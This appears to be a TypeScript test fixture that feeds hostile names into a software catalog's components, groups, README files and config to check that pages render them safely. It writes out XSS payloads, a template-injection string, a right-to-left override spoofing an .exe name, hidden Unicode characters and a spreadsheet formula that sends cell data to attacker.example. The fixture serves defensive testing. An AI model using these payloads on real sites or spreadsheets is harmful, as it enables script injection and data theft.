import { componentAt, type TestEntity } from './hosted';

/** Calls what the page is watched for. */
const script = (mark: string) => `window.attack?.('${mark}')`;
export const image = (mark: string) => `<img src=x onerror="${script(mark)}">`;
export const scriptUrl = (mark: string) => `javascript:${script(mark)}`;

/** What somebody who may write a repository or register a component may call things. */
export const NAMES = {
  markup: `${image('title')}<script>${script('script')}</script>`,
  template: `{{constructor.constructor("${script('template')}")()}}`,
  // Looks like "annual.exe", and would turn round what stands behind it.
  direction: 'Report \u202Eexe.launna',
  hidden: 'Pay\u200Broll \u0007\u2066back\uFEFF office',
  long: 'W'.repeat(400),
  formula: '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
};
export type Kind = keyof typeof NAMES;
export const KINDS = Object.keys(NAMES) as Kind[];

/** The same as pages show them. */
export const SHOWN: Record<Kind, string> = {
  ...NAMES,
  direction: 'Report exe.launna',
  hidden: 'Payroll back office',
};

// One of them will do: where more of the catalog goes at once than is left, its end is not believed for a while.
const IN_SYSTEM: Kind = 'markup';

function systemOf(kind: Kind): TestEntity[] {
  const name = `hostile-${kind}`;
  const metadata = { name, title: NAMES[kind] };
  return [
    { kind: 'Domain', metadata, spec: { owner: name } },
    { kind: 'System', metadata, spec: { owner: name, domain: name } },
  ];
}

/** A component called so, with a group, and maybe a system and a domain, that are as well. */
export function entitiesOf(kind: Kind, source: string): TestEntity[] {
  const called = NAMES[kind];
  const name = `hostile-${kind}`;
  const { metadata, ...component } = componentAt(source, name, called);
  const { annotations } = metadata as { annotations?: object };
  const isPartOfSystem = kind === IN_SYSTEM;
  return [
    {
      kind: 'Group',
      metadata: { name, title: called },
      spec: {
        type: called,
        profile: { displayName: called },
        children: [],
        members: ['guest'],
      },
    },
    ...(isPartOfSystem ? systemOf(kind) : []),
    {
      ...component,
      metadata: {
        ...metadata,
        description: called,
        annotations: {
          ...annotations,
          'opaq/template': `template:default/${called}@1`,
        },
        links: [{ url: scriptUrl('url'), title: called, type: 'runbook' }],
      },
      spec: {
        type: called,
        lifecycle: called,
        owner: name,
        ...(isPartOfSystem && { system: name }),
      },
    },
  ];
}

/** What a check finds; put together, so that it is not found here as well. */
const IN_A_HOME = ['', 'home', 'ada', 'data.csv'].join('/');

/** What a repository can say by the names of its files, and in them. */
export function filesOf(kind: Kind): Record<string, string> {
  const name = NAMES[kind];
  const expires = new Date(Date.now() + 90 * 86_400_000);
  return {
    // A slash would make folders of it.
    [`src/${name.replaceAll('/', '∕')}.py`]: `DATA = "${IN_A_HOME}"\n`,
    '.opaq.yaml': JSON.stringify({
      exemptions: [
        {
          check: 'deps.update-bot',
          reason: name,
          expires: expires.toISOString().slice(0, 10),
          approvedBy: name,
        },
        { check: name, reason: name, expires: '2020-01-01' },
      ],
    }),
    Dockerfile: `FROM ${name}\n`,
    '.github/CODEOWNERS': `${name} ${name}\n`,
    'crontab.txt': `* * * * * ${name}\n`,
    'README.md': `# ${name}\n\n## Run\n\n[run](${scriptUrl(
      'link',
    )})\n\n    make ${name}\n    python ${name}\n`,
  };
}
